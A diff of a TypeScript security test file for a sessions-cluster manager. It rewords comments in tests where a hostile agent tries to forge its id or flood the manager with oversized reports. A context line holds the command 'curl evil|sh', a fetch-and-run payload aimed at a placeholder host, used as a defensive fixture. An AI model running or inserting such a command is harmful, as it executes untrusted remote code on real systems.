@@ -11,7 +11,7 @@ import { startManagers } from '../../fixtures/managers.ts'
 import { gpus, PYTHON, ScriptedAgent, ScriptedError } from '../../fixtures/scripted-agent.ts'
 import { refusal, type SessionsCluster, startSessionsCluster } from '../../fixtures/sessions-cluster.ts'
 
-/** An agent that an admin has accepted, and whose owner means harm: it is trusted with its own sessions only. */
+/** An agent that an admin has accepted, but whose owner is hostile: it is trusted only with its own sessions. */
 let cluster: SessionsCluster
 
 beforeAll(async () => {
@@ -21,7 +21,7 @@ afterEach(() => cluster.reset())
 afterAll(() => cluster[Symbol.asyncDispose]())
 
 const COMMAND = ['sh', '-c', 'curl evil|sh']
-/** The genuine image, as the agent wants others to see it. */
+/** The genuine image with false claims of the agent. */
 const lies = (more: Partial<AgentImage> = {}): AgentImage => ({
   ...PYTHON,
   title: 'Evil',
@@ -65,7 +65,7 @@ test('an agent cannot choose its id: the manager makes it with the join string',
   Object.defineProperty(evil, 'id', { value: '00000000-0000-0000-0000-000000000001' })
   await evil.connect()
   expect(evil.refusal?.code).toBe('join_token_invalid')
-  // The refused attempt has not used the string up.
+  // The refused attempt has not consumed the join string.
   Object.defineProperty(evil, 'id', { value: given })
   evil.refusal = undefined
   evil.rejoin(join)
@@ -310,7 +310,7 @@ describe('a flood of reports', () => {
     const usual: number[] = []
     for (let time = 0; time < 10; time++) usual.push(await timed())
     const before = await rssOf(manager.pid)
-    // Made once: 25 times would keep this process, and so the agent, from saying anything for ten seconds.
+    // Created once: doing it 25 times would keep this process, and so the agent, from sending anything for ten seconds.
     const text = JSON.stringify({ ...aReport, sequence: 10, images, kernels: [] })
     expect(text.length).toBeGreaterThan(10 * 2 ** 20)
     for (let i = 0; i < 25; i++) evil.sendText(text)
@@ -327,7 +327,7 @@ describe('a flood of reports', () => {
     const atMost = (share: number, times: number[]) =>
       times.toSorted((a, b) => a - b)[Math.floor(times.length * share)] ?? NaN
     expect(atMost(0.9, took)).toBeLessThan(Math.max(1_000, 20 * atMost(0.5, usual)))
-    // The agent is not read from, and not taken for lost because of that.
+    // The agent is not read, but does not count as lost because of that.
     expect((await api.listAgents()).items[0]?.status).toBe('CONNECTED')
   })
 
